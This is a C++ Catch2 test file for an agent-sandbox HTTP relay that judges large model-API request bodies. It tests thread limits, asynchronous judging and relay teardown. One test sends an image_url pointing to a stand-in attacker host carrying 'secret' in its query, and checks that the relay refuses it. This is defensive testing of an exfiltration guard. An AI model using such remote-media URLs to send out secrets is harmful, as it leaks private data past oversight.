// Bodies that are judged as a whole: large ones beside the loop, which goes on meanwhile.

#include <atomic>
#include <filesystem>
#include <future>
#include <memory>
#include <optional>
#include <string>

#include <sys/resource.h>

#include <boost/asio/post.hpp>
#include <catch2/catch.hpp>

#include "network/http_relay.hpp"
#include "network/model_judge.hpp"
#include "sockets.hpp"

using namespace agentbox;
using namespace agentbox::gates::network;
using namespace agentbox::test;

namespace {

// A client, a server, and a relay between them that judges.
class Judged {
 public:
  explicit Judged(HttpRelay::Judge judge) {
    const UniqueFd inside = listen_at(AF_INET, 0), outside = listen_at(AF_INET, 0);
    client = connect_to(AF_INET, port_of(inside));
    UniqueFd from_client = accept_from(inside), to_server = connect_to(AF_INET, port_of(outside));
    server = accept_from(outside);
    for (UniqueFd* fd : {&from_client, &to_server}) ::fcntl(fd->get(), F_SETFL, O_NONBLOCK);
    HttpRequests::Passing passing;
    passing.authority = "localhost";
    relay.emplace(loop.context, std::move(from_client), std::move(to_server), "", passing, std::move(judge),
                  [this](HttpRelay::End) { ended = true; });
    running = loop.start();
  }
  ~Judged() {
    loop.stop();
    relay.reset();
  }
  Judged(const Judged&) = delete;
  Judged& operator=(const Judged&) = delete;

  void in_loop(std::function<void()> what) {
    std::promise<void> done;
    boost::asio::post(loop.context, [&] {
      what();
      done.set_value();
    });
    done.get_future().get();
  }

  Loop loop;
  UniqueFd client, server;
  std::optional<HttpRelay> relay;
  std::atomic<bool> ended = false;
  decltype(std::declval<Loop>().start()) running;
};

// Lets every body pass, but only when it is told to.
struct SlowJudge : std::enable_shared_from_this<SlowJudge> {
  std::promise<void> begun, goes_on;
  HttpRelay::Judge judge() {
    HttpRelay::Judge judge;
    judge.collects = [](const HttpRequest&) -> std::size_t { return 10'000'000; };
    judge.body = [self = shared_from_this()](const HttpRequest&, const std::string&) -> std::optional<HttpRefusal> {
      self->begun.set_value();
      self->goes_on.get_future().wait();
      return std::nullopt;
    };
    return judge;
  }
};

std::size_t threads_of_this_process() {
  const std::filesystem::directory_iterator tasks("/proc/self/task");
  return static_cast<std::size_t>(std::distance(begin(tasks), end(tasks)));
}

std::string call(const std::string& body) {
  return "POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + std::to_string(body.size()) +
         "\r\n\r\n" + body;
}

std::string conversation(const std::string& part) {
  return R"({"model":"m","messages":[{"role":"user","content":[)" + part + R"({"type":"text","text":")" +
         std::string(4'000'000, 'x') + R"("}]}]})";
}

}  // namespace

// The first of its kind in this process: later there is the thread.
TEST_CASE("where there can't be a thread a large body is judged all the same") {
  Judged between(model_judge());
  rlimit before{};
  REQUIRE(::getrlimit(RLIMIT_NPROC, &before) == 0);
  const rlimit none{.rlim_cur = 0, .rlim_max = before.rlim_max};
  const std::string body = R"({"model":"m","prompt":")" + std::string(300'000, 'x') + R"("})";
  const std::size_t threads = threads_of_this_process();
  REQUIRE(::setrlimit(RLIMIT_NPROC, &none) == 0);
  say(between.client, "POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Length: " +
                          std::to_string(body.size()) + "\r\n\r\n" + body);
  const std::string said = hear(between.server, body.size()).text;
  const std::size_t then = threads_of_this_process();
  REQUIRE(::setrlimit(RLIMIT_NPROC, &before) == 0);
  CHECK(said.starts_with("POST /v1/completions"));
  // Root may always have one more.
  if (::geteuid() != 0) CHECK(then == threads);
}

TEST_CASE("a large conversation passes to the model server, byte for byte") {
  Judged between(model_judge());
  const std::string body = conversation("");
  std::thread client([&] { say(between.client, call(body)); });
  const Heard heard = hear(between.server, call(body).size());
  client.join();
  CHECK(heard.text.ends_with(body));
  say(between.server, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
  CHECK(hear(between.client, 40).text.ends_with("ok"));
}

TEST_CASE("a large conversation with a picture by address is refused, and nothing of it reaches the server") {
  Judged between(model_judge());
  std::thread client([&] {
    say(between.client,
        call(conversation(R"({"type":"image_url","image_url":{"url":"http://evil.example/?q=secret"}},)")));
  });
  const Heard heard = hear(between.client);
  client.join();
  CHECK(heard.text.starts_with("HTTP/1.1 403"));
  CHECK(heard.text.find("media must be inline") != std::string::npos);
  CHECK(hear(between.server).text.empty());
}

TEST_CASE("while a large body is judged the loop serves others; then what was said of it meanwhile holds") {
  const bool stopped = GENERATE(false, true);
  const auto slow = std::make_shared<SlowJudge>();
  Judged between(slow->judge());
  const std::string body(1'000'000, 'x');
  say(between.client, call(body));
  slow->begun.get_future().get();
  // In the loop, while the judge sleeps.
  between.in_loop([&] {
    if (stopped) between.relay->stop("the owner said no");
  });
  CHECK_FALSE(between.ended);
  slow->goes_on.set_value();
  if (stopped) {
    const std::string said = hear(between.client).text;
    CHECK(said.starts_with("HTTP/1.1 403"));
    CHECK(said.ends_with("the owner said no\n"));
    CHECK(hear(between.server).text.empty());
  } else {
    CHECK(hear(between.server, call(body).size()).text.ends_with(body));
  }
}

TEST_CASE("a relay that goes away while its body is judged is not called back") {
  const auto slow = std::make_shared<SlowJudge>();
  Judged between(slow->judge());
  say(between.client, call(std::string(1'000'000, 'x')));
  slow->begun.get_future().get();
  between.in_loop([&] { between.relay.reset(); });
  slow->goes_on.set_value();
  CHECK(hear(between.server).text.empty());
  CHECK_FALSE(between.ended);
  // The thread is free for the next one.
  Judged after(model_judge());
  const std::string body = conversation("");
  std::thread client([&] { say(after.client, call(body)); });
  CHECK(hear(after.server, call(body).size()).text.ends_with(body));
  client.join();
}
